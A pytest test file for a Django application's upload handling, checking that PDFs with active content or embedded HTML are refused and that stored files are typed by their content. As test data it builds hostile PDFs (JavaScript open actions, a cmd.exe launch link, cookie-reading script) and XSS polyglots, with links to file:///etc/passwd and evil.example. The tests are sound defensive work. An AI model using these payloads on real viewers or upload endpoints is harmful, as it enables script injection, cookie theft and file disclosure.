"""Uploads as an attacker would send them: every bad kind is refused with a reason and nothing is
stored; a good file is stored under the suffix of its real type and served with that type, whatever
its name says."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from antraege.factories import AntragFactory
from antraege.models import Anhang
from antraege.roles import Akteur, grant_applicant_access
from workflow.wege import antrag_walk_to

from .abrechnung_helpers import png_bytes
from .resident_helpers import schritt_url

pytestmark = pytest.mark.django_db


def pdf(build=None):
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    if build:
        build(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def js_action(code="app.alert(1)"):
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def _open_action(writer, page):
    writer._root_object[NameObject("/OpenAction")] = js_action()


def _page_aa(writer, page):
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js_action()})


def _launch_link(writer, page):
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0)] * 2 + [FloatObject(50)] * 2),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/Launch"),
                    NameObject("/F"): TextStringObject("cmd.exe"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _document_js(writer, page):
    """Document-level JavaScript in the name tree, referenced indirectly (as real files do)."""
    action = writer._add_object(js_action("app.alert(document.cookie)"))
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("start"), action])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def _link(action):
    def build(writer, page):
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([FloatObject(0)] * 2 + [FloatObject(50)] * 2),
                NameObject("/A"): DictionaryObject(action),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    return build


def _uri_link(uri):
    return _link({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): uri})


def _open_action_named(writer, page):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Named"), NameObject("/N"): NameObject("/Print")}
    )


def _screen_annotation(writer, page):
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Screen"),
            NameObject("/Rect"): ArrayObject([FloatObject(0)] * 2 + [FloatObject(50)] * 2),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])


def _chained_action(writer, page):
    """A harmless link whose ``/Next`` action resets a form."""
    _link(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://example.org"),
            NameObject("/Next"): DictionaryObject({NameObject("/S"): NameObject("/ResetForm")}),
        }
    )(writer, page)


# HTML that a browser would run or load if it ever read the file as a page (issue 21: an
# ``<img onerror>`` polyglot passed); hidden in a PDF comment, where PDF readers skip it.
POLYGLOTS = {
    "img_onerror": b"<img src=x onerror=alert(1)>",
    "a_href": b'<a href="javascript:alert(1)">Angebot</a>',
    "style": b"<style>@import 'https://evil.example/x.css';</style>",
    "meta_refresh": b'<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "svg_onload": b"<svg onload=alert(1)>",
    "iframe": b"<iframe src=https://evil.example>",
    "object": b"<object data=x.swf>",
    "embed": b"<embed src=x.swf>",
    "link": b'<link rel="stylesheet" href="https://evil.example/x.css">',
    "base": b'<base href="https://evil.example/">',
    "form": b'<form action="https://evil.example"><input name=p>',
    "math": b"<math><mtext><script>alert(1)</script>",
    "body_onload": b"<BODY onload=alert(1)>",
    "xml_stylesheet": b'<?xml-stylesheet href="https://evil.example/x.xsl"?>',
}


BAD_PDFS = {
    **{f"polyglot_{name}": pdf() + b"%" + html + b"\n" for name, html in POLYGLOTS.items()},
    **{
        f"polyglot_after_header_{name}": b"%PDF-1.4\n%" + html + b"\n" + pdf()[9:]
        for name, html in POLYGLOTS.items()
    },
    "uri_javascript": pdf(_uri_link(TextStringObject("javascript:app.alert(1)"))),
    "uri_javascript_upper_with_space": pdf(_uri_link(TextStringObject(" JavaScript:alert(1)"))),
    "uri_file": pdf(_uri_link(TextStringObject("file:///etc/passwd"))),
    "uri_data": pdf(_uri_link(TextStringObject("data:text/html,<b>x</b>"))),
    "uri_smb": pdf(_uri_link(TextStringObject("\\\\evil.example\\share"))),
    "open_action_named": pdf(_open_action_named),
    "goto_remote": pdf(
        _link({NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("x.pdf")})
    ),
    "screen_annotation": pdf(_screen_annotation),
    "chained_next_action": pdf(_chained_action),
    "javascript_in_the_name_tree": pdf(_document_js),
    "javascript_open_action": pdf(_open_action),
    "page_additional_action": pdf(_page_aa),
    "launch_action_in_a_link": pdf(_launch_link),
    "html_after_the_header": pdf() + b"\n<html><body><script>alert(1)</script></body></html>\n",
    "html_polyglot_header": b"%PDF-1.4\n<!DOCTYPE html><html><script>alert(1)</script>",
    "no_pages": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
}


@pytest.fixture
def draft(client, fonds):
    antrag = AntragFactory(fonds=fonds)
    session = client.session
    grant_applicant_access(session, antrag)
    session.save()
    return antrag


def upload(client, antrag, name, content):
    return client.post(
        schritt_url(antrag.pk, 4),
        {
            "aktion": "hochladen",
            "art": "quote",
            "datei": SimpleUploadedFile(name, content, content_type="application/pdf"),
        },
    )


def stored_files(settings):
    root = settings.MEDIA_ROOT
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize("kind", sorted(BAD_PDFS))
def test_active_or_polyglot_pdf_is_refused_and_nothing_stored(client, draft, settings, kind):
    response = upload(client, draft, "angebot.pdf", BAD_PDFS[kind])

    assert response.status_code == 200
    text = response.content.decode()
    assert "nehmen wir es nicht an" in text or "PDF ist beschädigt" in text
    assert not Anhang.objects.exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize(
    "uri", ["https://example.org/angebot", "HTTP://example.org", "mailto:kiez@example.org"]
)
def test_a_plain_pdf_with_a_web_or_mail_link_is_accepted(client, draft, uri):
    def _web_link(writer, page):
        writer.add_uri(0, uri, [0, 0, 50, 50])

    response = upload(client, draft, "angebot.pdf", pdf(_web_link))

    assert response.status_code == 302
    assert Anhang.objects.get().content_type == "application/pdf"


def test_a_pdf_with_bookmarks_and_a_link_to_a_page_is_accepted(client, draft):
    def _outline(writer, page):
        writer.add_blank_page(width=200, height=200)
        first = writer.add_outline_item(title="Kosten", page_number=0)
        writer.add_outline_item(title="Plan", page_number=1, parent=first)
        writer.add_outline_item(title="Fotos", page_number=1)
        writer.add_annotation(
            0,
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/Rect"): ArrayObject([FloatObject(0)] * 2 + [FloatObject(50)] * 2),
                    NameObject("/A"): DictionaryObject(
                        {
                            NameObject("/S"): NameObject("/GoTo"),
                            NameObject("/D"): ArrayObject(
                                [writer.pages[1].indirect_reference, NameObject("/Fit")]
                            ),
                        }
                    ),
                }
            ),
        )

    response = upload(client, draft, "angebot.pdf", pdf(_outline))

    assert response.status_code == 302
    assert Anhang.objects.get().content_type == "application/pdf"


def test_a_pdf_printed_by_the_product_is_accepted(client, draft):
    """A tagged PDF (structure tree with attributes) as WeasyPrint renders the letters."""
    from antraege.dokumente.pdf import html_to_pdf

    data = html_to_pdf("<h1>Angebot</h1><p><a href='https://example.org'>Laden</a></p>")

    response = upload(client, draft, "angebot.pdf", data)

    assert response.status_code == 302


def test_stored_suffix_and_served_type_come_from_the_content_not_the_name(
    client, staff_login, draft, qm_user
):
    response = upload(client, draft, "rechnung.html", png_bytes())
    assert response.status_code == 302
    anhang = Anhang.objects.get()
    assert anhang.datei.name.endswith(".png")
    assert anhang.originalname == "rechnung.html"
    antrag_walk_to(draft, "submitted")

    staff_login(client, qm_user)
    served = client.get(reverse("qm:anhang", args=[draft.pk, anhang.pk]))

    assert served["Content-Type"] == "image/png"
    assert served["Content-Disposition"] == 'attachment; filename="rechnung.png"'
    assert served["X-Content-Type-Options"] == "nosniff"


def test_receipt_is_stored_and_served_by_its_content_type(client, staff_login, antrag, qm_user):
    from antraege.geld.services import abrechnung

    from .abrechnung_helpers import in_progress

    antrag = in_progress(antrag, qm_user)
    beleg = abrechnung.beleg_add(
        antrag,
        akteur=Akteur(None, antrag_ids=[antrag.pk]),
        datum=timezone.localdate(),
        aussteller="Baumarkt",
        betrag="12.50",
        kostenposition_id=antrag.kostenpositionen.first().pk,
        datei=SimpleUploadedFile("beleg.svg", pdf(), content_type="image/svg+xml"),
    )

    assert beleg.datei.name.endswith(".pdf")
    assert beleg.content_type == "application/pdf"


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("x.pdf.html", "application/pdf", "x.pdf"),
        ("angebot.PDF", "application/pdf", "angebot.PDF"),
        ("angebot", "application/pdf", "angebot.pdf"),
        ("rechnung.exe", "application/pdf", "rechnung.pdf"),
        ("foto.jpeg", "image/jpeg", "foto.jpeg"),
        ("foto.jpg.svg", "image/jpeg", "foto.jpg"),
        ("bild.svg", "image/png", "bild.png"),
        ("..html", "image/png", "html.png"),
        ("beleg.pdf", "", "beleg.bin"),
    ],
)
def test_download_name_takes_its_extension_from_the_stored_type(name, content_type, expected):
    from antraege.antrag.models.anhang import download_name

    assert download_name(name, content_type) == expected


def test_an_attachment_named_pdf_html_downloads_as_pdf(client, staff_login, draft, qm_user):
    from .abrechnung_helpers import pdf_bytes

    assert upload(client, draft, "x.pdf.html", pdf_bytes()).status_code == 302
    anhang = Anhang.objects.get()
    antrag_walk_to(draft, "submitted")
    staff_login(client, qm_user)

    served = client.get(reverse("qm:anhang", args=[draft.pk, anhang.pk]))

    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"] == 'attachment; filename="x.pdf"'
